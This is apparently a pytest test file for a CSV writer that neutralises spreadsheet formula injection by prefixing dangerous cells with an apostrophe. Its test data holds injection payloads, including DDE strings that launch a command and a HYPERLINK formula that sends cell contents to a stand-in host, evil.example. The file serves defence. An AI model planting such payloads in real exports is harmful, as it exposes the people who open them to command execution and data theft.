"""CSV that spreadsheets show instead of running, and programs read back exactly."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from appliance.csv_rows import csv_row

FORMULAS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/"&A1;"look")',
    "＝1+1",
)


def read(line: str, *, separator: str = ",") -> list[str]:
    (row,) = csv.reader(io.StringIO(line, newline=""), delimiter=separator)
    return row


def unmarked(cell: str) -> str:
    """Return a cell as it was before it was written: what `docs/using.md` tells readers to do."""
    return cell.removeprefix("'")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    assert read(csv_row([formula, "x"])) == ["'" + formula, "x"]


@pytest.mark.parametrize("number", [-1, -0.5, 1e-9, -1e300, 12, "-5", "-0.25", "-1e-05"])
def test_numbers_are_unaffected(number: float | str) -> None:
    assert read(csv_row([number])) == [str(number)]


def test_text_that_only_begins_like_a_number_is_none() -> None:
    assert read(csv_row(["-1+2", "-1\n", "+49 171"])) == ["'-1+2", "'-1\n", "'+49 171"]


def test_nothing_is_an_empty_cell() -> None:
    assert csv_row([None, "", 0]) == ",,0\r\n"


@pytest.mark.parametrize("text", ["a;=1+1", "a\t=1+1", 'a";=1+1', "a\r\n=1+1"])
def test_no_separator_of_another_country_makes_a_formula_of_the_rest(text: str) -> None:
    for separator in (";", "\t"):
        row = read(csv_row([text]), separator=separator)
        assert not any(cell.startswith("=") for cell in row)


def test_ordinary_text_stays_bare() -> None:
    assert csv_row(["a.png", "Übermut", "car park", 0.75]) == "a.png,Übermut,car park,0.75\r\n"


@given(st.lists(st.text(st.characters(blacklist_categories=["Cs"])), min_size=2, max_size=5))
def test_every_text_comes_back_exactly(texts: list[str]) -> None:
    assert [unmarked(cell) for cell in read(csv_row(texts))] == texts
